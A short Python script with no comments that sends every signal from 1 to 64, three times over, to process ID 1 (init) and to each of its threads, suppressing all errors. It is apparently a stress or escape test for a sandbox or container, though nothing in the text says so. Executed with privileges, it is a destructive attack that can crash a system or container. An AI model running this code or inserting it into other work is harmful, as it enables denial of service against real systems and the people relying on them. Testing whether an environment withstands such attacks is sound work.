import contextlib
import os

for _ in range(3):
    for number in range(1, 65):
        with contextlib.suppress(OSError):
            os.kill(1, number)
        for thread in os.listdir("/proc/1/task"):
            with contextlib.suppress(OSError):
                os.kill(int(thread), number)
